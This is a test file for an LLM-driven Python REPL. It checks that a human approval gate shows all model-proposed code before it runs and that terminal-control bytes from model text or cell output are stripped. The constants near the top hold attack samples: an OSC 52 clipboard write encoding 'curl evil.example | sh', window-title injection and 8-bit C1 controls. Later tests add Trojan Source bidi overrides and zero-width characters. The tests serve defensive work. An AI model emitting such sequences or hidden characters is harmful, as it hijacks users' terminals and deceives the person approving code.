"""Issue 11, classes 1 and 2: the gate shows everything that will run, and no byte from outside
drives the terminal.

The pty cases look at the bytes the terminal received (pexpect's ``logfile_read``, decoded as
UTF-8: an 8-bit C1 control arrives as U+0080-U+009F) and at what a person reads there. Each
case names, in its docstring, what fails without its fix.
"""

from __future__ import annotations

import json
import re

from .harness import CONFIRM, PROMPT, fault_run, spawn_repl

MSG = "propose a cell please"

# Payloads an attacker plants in model text, cell output, values, tracebacks, file names ...
OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"   # write the clipboard
TITLE = "\x1b]0;pwned-title\x1b\\"                          # set the window title
C1_TITLE = "\x9d2;c1-title\x9c"                            # the same with 8-bit C1 controls
REPORT = "\x1b[21t"                                        # ask the terminal to type its title back
ATTACK = OSC52 + TITLE + C1_TITLE + REPORT


def _drivers(raw: str) -> list[str]:
    """Terminal-driving sequences that reached the terminal (none of them llmrepl's own)."""
    found = []
    for name, needle in (("OSC (ESC ])", "\x1b]"), ("DCS", "\x1bP"), ("APC", "\x1b_"), ("title report", "\x1b[21t")):
        if needle in raw:
            found.append(name)
    c1 = sorted({f"U+{ord(c):04X}" for c in raw if "\x80" <= c <= "\x9f"})
    if c1:
        found.append("C1 " + ", ".join(c1))
    return found


def _drawn(text: str) -> str:
    """A regex for ``text`` as a full-screen prompt_toolkit app draws it: a run of spaces may
    be a cursor move instead (ESC [ n C)."""
    return r"(?: |\x1b\[[0-9]*C)+".join(re.escape(word) for word in text.split(" "))


def _cell(code: str, before: str = "Running it:") -> str:
    return f"{before}\n```python\n{code}\n```"


def _ran(r, marker: str) -> bool:
    return any(marker in str(e.get("output", "")) for e in r.events("cell_end"))


# -------------------------------------------------------------------------------------------
# class 1: the gate shows everything that will run
# -------------------------------------------------------------------------------------------

def _big_cell(lines: int, middle: str) -> str:
    body = [f"v{i:05d} = '{'p' * 96}'" for i in range(lines)]
    body[lines // 2] = f"middle = '{middle}'"
    body.append("print('big-cell-' + 'ran', middle)")
    return "\n".join(body)


def _page_to_the_end(repl, total: int, page: int = 39) -> None:
    """Space, one page at a time, each only once the last one is drawn, until the pager says
    that every line has been on the screen."""
    for top in range(page, total, page):
        repl.send(" ")
        first, last = min(top, total - page) + 1, min(top + page, total)
        shown = f"all {total:,} lines shown"
        if repl.child.expect([_drawn(f"lines {first:,}-{last:,} of {total:,}"), _drawn(shown)], timeout=20):
            return
    raise AssertionError("the pager never said that all of the cell was shown")


def test_a_230_kb_cell_runs_only_after_all_of_it_was_on_the_screen(server):
    """Example: a ~230 KB fenced cell; the answer's display cap hid its middle and `y` ran a line
    nobody saw. Now `y` is refused until the pager has drawn every line (jumping to the end is
    not enough). Without the fix `y` runs it at once."""
    code = _big_cell(2100, "MIDDLE-" + "LINE-SEEN")
    assert len(code) > 225_000
    server.reply(_cell(code), chunk_size=8192)
    repl = spawn_repl(server)
    repl.ask(MSG)
    repl.expect("v shows all of it", timeout=60)
    repl.send("y")
    repl.expect("press v to read all of it")
    repl.send("v")
    repl.expect_re(_drawn("lines 1-"))
    repl.send("G")  # straight to the end: the middle has not been on the screen
    repl.expect_re(_drawn("-2,101 of 2,101"))
    repl.send("q")
    repl.expect("v shows all of it")
    assert "big-cell-ran" not in repl.transcript
    repl.send("v")
    repl.send("g")
    repl.expect_re(_drawn("lines 1-39 of 2,101"))
    _page_to_the_end(repl, 2101)
    repl.send("q")
    repl.expect(CONFIRM)
    repl.send("y")
    repl.expect("big-cell-ran MIDDLE-LINE-SEEN", timeout=30)
    repl.expect(PROMPT)
    r = repl.finish()
    r.assert_ok()
    assert "middle = 'MIDDLE-LINE-SEEN'" in r.stdout  # the pager drew it
    assert [e["action"] for e in r.events("decision")] == ["run"]


def test_a_cell_taller_than_the_screen_is_read_in_the_pager_before_enter_runs_it(server):
    """Class 1: a 61-line cell on a 40-row terminal, shown whole in the answer, but taller than
    the screen: Enter is not an answer until the pager has shown all of it. Without the fix
    Enter runs it."""
    code = "\n".join(f"row_{i} = {i}" for i in range(60)) + "\nprint('tall-' + 'cell-ran', row_59)"
    server.reply(_cell(code))
    repl = spawn_repl(server)
    repl.ask(MSG)
    repl.expect("61 lines, taller than the screen")
    repl.send("\r")
    repl.expect("press v to read all of it")
    repl.send("v")
    repl.expect_re(_drawn("lines 1-39 of 61"))
    _page_to_the_end(repl, 61)
    repl.send("q")
    repl.expect(CONFIRM)
    repl.send("\r")
    repl.expect("tall-cell-ran 59")
    repl.expect(PROMPT)
    r = repl.finish()
    r.assert_ok()
    assert [e["action"] for e in r.events("decision")] == ["run"]


def test_a_high_risk_cell_is_not_run_by_enter_or_a_only_by_y(server):
    """Class 1: a cell the scan labels high risk (it reads os.environ). Enter and `a` are not
    answers; only `y` runs it. Without the fix Enter runs it."""
    server.reply(_cell("import os\nhome = os.environ.get('HOME', '')\nprint('risky-' + 'cell-ran')"))
    repl = spawn_repl(server)
    repl.ask(MSG)
    repl.expect("(high risk: only y runs it)")
    repl.send("\r")
    repl.expect("only y runs it (n does not")
    repl.send("a")
    repl.expect("only y runs it (n does not")
    assert "risky-cell-ran" not in repl.transcript
    repl.send("y")
    repl.expect("risky-cell-ran")
    repl.expect(PROMPT)
    r = repl.finish()
    r.assert_ok()
    assert [e["action"] for e in r.events("decision")] == ["run"]


def test_auto_run_still_stops_at_a_high_risk_cell_and_enter_does_not_run_it(server):
    """Class 1: `a` on a harmless cell turns auto-run on; the next cell is high risk, so it is
    asked about, and Enter there declines nothing and runs nothing. Without the fix Enter runs it."""
    server.reply(_cell("first = 1\nprint('first-' + 'ran')"))
    server.reply(_cell("import shutil\nshutil.rmtree('no-such-folder', ignore_errors=True)\nprint('rmtree-' + 'ran')"))
    server.reply("Stopped.")
    repl = spawn_repl(server)
    repl.ask(MSG)
    repl.expect(CONFIRM)
    repl.send("a")
    repl.expect("first-ran")
    repl.expect("(high risk: only y runs it)")
    repl.send("\r")
    repl.expect("only y runs it (n does not")
    repl.send("n")
    repl.expect(PROMPT)
    r = repl.finish()
    r.assert_ok()
    assert not _ran(r, "rmtree-ran")
    assert [e["action"] for e in r.events("decision")] == ["run", "decline"]


def test_plain_terminal_a_high_risk_cell_is_not_run_by_enter(server):
    """Class 1, the TERM=dumb front end: an empty answer (Enter) to a high-risk cell is not a
    yes; `y` is. Without the fix Enter runs it."""
    server.reply(_cell("import subprocess\nsubprocess.run(['true'])\nprint('plain-risky-' + 'ran')"))
    repl = spawn_repl(server, term="dumb")
    repl.ask(MSG)
    repl.expect("(high risk: only y runs it)")
    repl.send("\r")
    repl.expect("only y runs it, n does not")
    assert "plain-risky-ran" not in repl.transcript
    repl.send("y\r")  # an answer, not a message
    repl.expect("plain-risky-ran")
    r = repl.finish()
    r.assert_ok()
    assert [e["action"] for e in r.events("decision")] == ["run"]


def test_bidi_override_in_a_cell_is_refused_even_with_yes_and_the_model_is_told(server):
    """Class 1, Trojan Source: a RIGHT-TO-LEFT OVERRIDE makes the line read differently from what
    runs. The cell is refused in every mode (--yes too), the reason names the character, and
    the model is told. Without the fix it runs under --yes."""
    code = "access = 'user'\nif access != 'none\u202e\u2066':  # only for admins\u2069\u2066\n    print('bidi-' + 'cell-ran')"
    server.reply(_cell(code))
    r = fault_run(server, [MSG, "why was it not run?"], yes=True)
    r.assert_ok(check_shown=False)  # the screen shows <U+202E> where the journal keeps the character
    assert not _ran(r, "bidi-cell-ran")
    assert r.said("U+202E RIGHT-TO-LEFT OVERRIDE on line 2")
    assert "<U+202E>" in r.stdout  # the answer shows the character as a marker, not as itself
    assert "\u202e" not in r.stdout
    feedback = json.dumps(server.requests[1]["messages"][-1])
    assert "U+202E" in feedback and "refused" in feedback
    decision = r.events("decision")[0]
    assert decision["action"] == "decline" and "U+202E RIGHT-TO-LEFT OVERRIDE" in decision["hidden"]


def test_a_lone_carriage_return_in_fenced_code_is_shown_as_a_line_break_and_refused(server):
    """Class 1: `x = 1  # note\\rimport os; ...` looks like one commented line on a terminal
    (the \\r returns to the start of the line), but Python reads two lines. The answer shows it
    as two lines, and the cell is refused. Without the fix it runs under --yes."""
    server.reply(_cell("total = 1  # just a comment\rprint('cr-' + 'cell-ran')"))
    r = fault_run(server, [MSG], yes=True)
    r.assert_ok()
    assert not _ran(r, "cr-cell-ran")
    assert "total = 1  # just a comment\nprint('cr-' + 'cell-ran')" in r.stdout
    assert r.said("U+000D CARRIAGE RETURN")


def test_tool_call_code_with_invisible_characters_is_refused_and_answered(server):
    """Class 1: a run_python call whose code holds a zero-width space and a form feed is refused
    (the tool reply says why). Without the fix it runs under --yes."""
    code = "user = 'admin\u200b'\n\x0cprint('zw-' + 'cell-ran', user)"
    server.reply(tool_calls=[("run_python", json.dumps({"code": code}))])
    r = fault_run(server, [MSG, "why was it not run?"], yes=True)
    r.assert_ok()
    assert not _ran(r, "zw-cell-ran")
    tool = [m for m in server.requests[1]["messages"] if m.get("role") == "tool"]
    assert tool and "U+200B ZERO WIDTH SPACE" in tool[-1]["content"] and "U+000C FORM FEED" in tool[-1]["content"]
    assert tool[-1]["content"].startswith("Not run: refused")


def test_several_code_blocks_are_shown_again_as_the_one_cell_that_runs(server):
    """Class 1: two fenced blocks with prose between them run as one cell; the question comes
    after that cell is shown whole, as it will run. Without the fix it is never shown as one."""
    answer = ("First this:\n```python\nstep_one = 1\n```\nThis second block is only an example:\n"
              "```python\nprint('joined-' + 'cell-ran', step_one)\n```\nDone.")
    server.reply(answer)
    r = fault_run(server, [MSG], yes=True)
    r.assert_ok()
    shown = r.shown
    assert "the cell to run (2 code blocks, in order):" in shown
    after = shown[shown.index("the cell to run"):]
    assert "step_one = 1\n\nprint('joined-' + 'cell-ran', step_one)" in after


# -------------------------------------------------------------------------------------------
# class 2: no byte from outside drives the terminal
# -------------------------------------------------------------------------------------------

def test_model_text_cannot_drive_the_terminal(server):
    """Class 2, example: OSC 52, a title change and 8-bit C1 controls in the model's answer
    reach the terminal raw. Without the fix the C1 title (U+009D ... U+009C) gets through."""
    server.reply(f"Here you go: {ATTACK}VISIBLE-ANSWER-TEXT done.\nSecond line {C1_TITLE}still here.")
    repl = spawn_repl(server)
    repl.ask(MSG)
    repl.expect("still here.")
    repl.expect(PROMPT)
    r = repl.finish()
    r.assert_ok()
    assert _drivers(r.stdout) == []
    assert "VISIBLE-ANSWER-TEXT done." in r.shown and "Second line still here." in r.shown


def test_cell_output_keeps_colour_and_nothing_else(server):
    """Class 2, example: cell output with OSC 52, a title, C1 controls and a title report; its
    SGR colour survives. Without the fix all of it reaches the terminal raw."""
    code = ("import sys\n"
            "print('out:' + chr(27) + ']52;c;Y3VybA==' + chr(7) + chr(0x9d) + '0;t' + chr(0x9c) + chr(27) + '[21t' "
            "+ chr(27) + '[32mGREEN-' + 'OK' + chr(27) + '[0m')\n"
            "sys.stderr.write('err:' + chr(27) + ']0;title' + chr(27) + chr(92) + 'ERR-' + 'VISIBLE\\n')")
    server.reply(_cell(code))
    repl = spawn_repl(server)
    repl.ask(MSG)
    repl.expect(CONFIRM)
    repl.send("y")
    repl.expect("ERR-VISIBLE")
    repl.expect(PROMPT)
    r = repl.finish()
    r.assert_ok()
    assert _drivers(r.stdout) == []
    assert "\x1b[32mGREEN-OK\x1b[0m" in r.stdout  # the colour of cell output is kept
    assert "out:GREEN-OK" in r.shown and "err:ERR-VISIBLE" in r.shown


def test_tracebacks_and_reprs_cannot_drive_the_terminal(server):
    """Class 2, example: an exception message and a value's repr carrying escape sequences and
    C1 controls. Without the fix both reach the terminal raw."""
    esc = "chr(27) + ']52;c;QUFB' + chr(7) + chr(0x9d) + '2;t' + chr(0x9c)"
    server.reply(_cell(f"class R:\n    def __repr__(self):\n        return 'REPR-' + {esc} + '-SHOWN'\nR()"))
    server.reply("And now it fails.")
    server.reply(_cell(f"raise ValueError('TB-' + {esc} + '-SHOWN')"))
    repl = spawn_repl(server)
    repl.ask(MSG)
    repl.expect(CONFIRM)
    repl.send("y")
    repl.expect("-SHOWN")  # (without the fix the attack sits between REPR- and -SHOWN)
    repl.expect(PROMPT)
    repl.ask("again")
    repl.expect(CONFIRM)
    repl.send("y")
    repl.expect("-SHOWN')")
    repl.expect(PROMPT)
    r = repl.finish()
    r.assert_ok()
    assert _drivers(r.stdout) == []
    assert "REPR--SHOWN" in r.shown and "ValueError: TB--SHOWN" in r.shown


def test_history_and_sessions_listings_cannot_drive_the_terminal(server):
    """Class 2, example: /history quotes the model, /sessions quotes a stored session's first
    message; both carry an attack. Without the fix the C1 controls reach the terminal."""
    fault_run(server, [f"OLD-FIRST {C1_TITLE}{OSC52}message"], alive=False)
    server.reply(f"model says {C1_TITLE}{TITLE}HISTORY-VISIBLE")
    repl = spawn_repl(server)
    repl.ask(MSG)
    repl.expect(PROMPT)
    repl.ask("/history")
    repl.expect("HISTORY-VISIBLE")
    repl.expect(PROMPT)
    repl.ask("/sessions")
    repl.expect("OLD-FIRST")
    repl.expect(PROMPT)
    r = repl.finish()
    r.assert_ok()
    assert _drivers(r.stdout) == []


def test_a_progress_bar_still_redraws_its_line_while_its_escapes_are_dropped(server):
    """Class 2: a tqdm-style bar writes "\\r" updates to stderr; they still redraw one line in
    place (each update starts with "\\r", no new line between them), while the OSC title it
    also writes is dropped. Without the fix the OSC gets through; a fix that dropped "\\r"
    would print the updates run together."""
    code = ("import sys\n"
            "for p in (10, 50, 100):\n"
            "    sys.stderr.write(chr(13) + f'progress {p:3d}%|' + '#' * (p // 10) + '|' + chr(27) + ']0;bar' + chr(7))\n"
            "    sys.stderr.flush()\n"
            "sys.stderr.write(chr(10))\n"
            "print('bar-' + 'done')")
    server.reply(_cell(code))
    repl = spawn_repl(server)
    repl.ask(MSG)
    repl.expect(CONFIRM)
    repl.send("y")
    repl.expect("bar-done")
    repl.expect(PROMPT)
    r = repl.finish()
    r.assert_ok()
    assert _drivers(r.stdout) == []
    raw = re.sub(r"\x1b\[[0-9;]*m", "", r.stdout)  # the stderr colour around each write
    assert "\rprogress  10%|#|\rprogress  50%|#####|\rprogress 100%|##########|" in raw


def test_output_of_a_thread_left_running_cannot_drive_the_terminal(server):
    """Class 2: a thread the cell started prints an attack while the prompt is up (the late
    output path). Without the fix it reaches the terminal raw."""
    code = ("import threading, time\n"
            "def later():\n"
            "    time.sleep(0.5)\n"
            "    print('LATE-' + chr(27) + ']52;c;QUFB' + chr(7) + chr(0x9d) + '0;t' + chr(0x9c) + 'OUTPUT')\n"
            "threading.Thread(target=later).start()\n"
            "print('thread-' + 'started')")
    server.reply(_cell(code))
    repl = spawn_repl(server)
    repl.ask(MSG)
    repl.expect(CONFIRM)
    repl.send("y")
    repl.expect("thread-started")
    repl.expect("OUTPUT")
    r = repl.finish()
    r.assert_ok()
    assert _drivers(r.stdout) == []
    assert "LATE-OUTPUT" in r.shown


def test_batch_output_and_server_errors_cannot_drive_the_terminal(server):
    """Class 2, one-shot/batch: model text and cell output on stdout, and a server's error message
    reported on stderr. Without the fix C1 controls and OSC 52 reach both."""
    server.reply(_cell("print('BATCH-' + chr(0x9d) + '0;t' + chr(0x9c) + 'OUT')", before=f"Text {C1_TITLE}{OSC52}here."))
    server.reply("ok")
    server.fail(400, f"bad request {C1_TITLE}{OSC52}SERVER-SAYS")
    r = fault_run(server, [MSG, "second message"], yes=True)
    # the journal keeps what the model and the cell really wrote; the screen got it cleaned
    r.assert_ok(check_shown=False)
    assert _drivers(r.stdout) == [] and _drivers(r.stderr) == []
    assert "BATCH-OUT" in r.stdout and "SERVER-SAYS" in r.stderr


def test_resume_replay_and_the_dumb_terminal_cannot_drive_the_terminal(server):
    """Class 2: a resumed session's replayed cell output and quoted messages, on the TERM=dumb
    front end, plus a cell's input() prompt there. Without the fix the C1 controls get through."""
    server.reply(_cell("print('REPLAYED-' + chr(0x9d) + '0;t' + chr(0x9c) + 'CELL')", before=f"Old {C1_TITLE}answer."))
    fault_run(server, [f"old message {C1_TITLE}"], yes=True, alive=False)
    server.reply(_cell("name = input('ASK-' + chr(0x9d) + '0;t' + chr(0x9c) + 'NAME? ')\nprint('hello', name)"))
    repl = spawn_repl(server, "--resume", "--yes", term="dumb", wait_prompt=False)
    repl.expect("re-ran 1 cells")  # before the first prompt
    repl.expect(PROMPT)
    repl.ask(MSG)
    repl.expect("NAME? ")
    repl.send("Ada\r")
    repl.expect("hello Ada")
    r = repl.finish()
    r.assert_ok()
    assert _drivers(r.stdout) == []
    assert "REPLAYED-CELL" in r.shown and "ASK-NAME? Ada" in r.shown


# -------------------------------------------------------------------------------------------
# issue 11, item 1, for --resume: every cell that will be re-run is shown before the question
# -------------------------------------------------------------------------------------------

def test_resume_shows_each_cell_it_will_re_run_before_asking(server):
    """pty: ``--resume`` puts up the code of every stored cell, highlighted and sanitized like
    any cell, before "Re-run ...?". Without the fix only the question was shown."""
    fault_run(server, ["/py alpha = 'ALPHA-' + 'CODE'", "/py beta = len(alpha)  # BETA-LINE"], alive=False)
    repl = spawn_repl(server, "--resume", wait_prompt=False)
    repl.expect("to rebuild the namespace? [Y/n]")
    before = repl.transcript  # the screen at the question (highlighting removed)
    assert "alpha = 'ALPHA-' + 'CODE'" in before and "beta = len(alpha)  # BETA-LINE" in before, before
    repl.send("y")
    repl.expect("re-ran 2 cells")
    repl.expect(PROMPT)
    repl.ask("/py print('beta is', beta)")
    repl.expect("beta is 10")
    r = repl.finish()
    r.assert_ok()
    screen = r.shown
    assert screen.index("BETA-LINE") < screen.index("to rebuild the namespace?")


def test_resume_of_many_cells_is_read_in_the_pager_before_y_counts(server):
    """pty, 40 rows: 40 stored cells are taller than the screen. The question says so, Enter
    is not an answer until the pager has shown every line (never a cap that hides the middle).
    Without the fix Enter re-ran cells the person could not have read."""
    fault_run(server, [f"/py v_{i} = {i}" for i in range(40)], alive=False)
    repl = spawn_repl(server, "--resume", wait_prompt=False)
    repl.expect("taller than the screen")
    repl.send("\r")
    repl.expect("press v to read all of it")
    repl.send("v")
    repl.expect_re(_drawn("lines 1-39 of 80"))
    _page_to_the_end(repl, 80)
    repl.send("q")
    repl.expect("to rebuild the namespace? [Y/n]")
    repl.send("\r")
    repl.expect("re-ran 40 cells")
    repl.expect(PROMPT)
    repl.ask("/py print('last', v_39)")
    repl.expect("last 39")
    r = repl.finish()
    r.assert_ok()
    assert "v_20 = 20" in r.stdout  # the middle was drawn


def test_resume_with_yes_shows_the_cells_and_refuses_hidden_characters(server):
    """Batch ``--resume --yes``: the cells are shown, then run; one holding a zero-width space
    (shows unlike what Python reads) is not re-run, with the reason, as the gate refuses such
    code. Without the fix nothing was shown and the hidden cell ran."""
    fault_run(server, ["/py shown_var = 'SHOWN-' + 'VALUE'", "/py hidden_var = 'a\u200bb'"], alive=False)
    r = fault_run(server, ["/py print(shown_var, 'hidden_var' in globals())"], args=("--resume",), yes=True)
    r.assert_ok(journaled=[("cell_end", "SHOWN-VALUE False")])
    assert "shown_var = 'SHOWN-' + 'VALUE'" in r.stdout
    assert r.said("cell 2 will not be re-run", "U+200B ZERO WIDTH SPACE")
    assert r.stdout.index("shown_var = 'SHOWN-'") < r.stdout.index("re-ran 1 cells")
